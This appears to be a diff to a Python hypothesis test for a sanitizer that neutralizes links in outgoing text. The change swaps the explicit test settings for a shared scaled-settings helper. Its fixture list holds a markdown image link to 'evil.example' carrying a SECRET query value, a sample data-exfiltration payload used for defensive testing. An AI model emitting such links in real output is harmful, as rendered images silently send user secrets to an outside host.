@@ -3,10 +3,11 @@
 import re
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import given
 from hypothesis import strategies as st
 
 from daemon.delivery.sanitize import neutralize, strip_controls
+from tests.properties import scaled_settings
 
 ADDRESSES = [
     "![x](https://evil.example/a.png?d=SECRET)",
@@ -75,7 +76,7 @@ bits = ["&#58;", "&amp;", "\\", "<", "]", "(", "](", "://", ":", "/", "//", ".",
 pieces = st.sampled_from([*ADDRESSES, *bits])
 
 
-@settings(deadline=None, derandomize=True, max_examples=300)
+@scaled_settings(300)
 @given(st.lists(pieces, max_size=12).map("".join))
 def test_once_is_enough(text):
     once = neutralize(text)
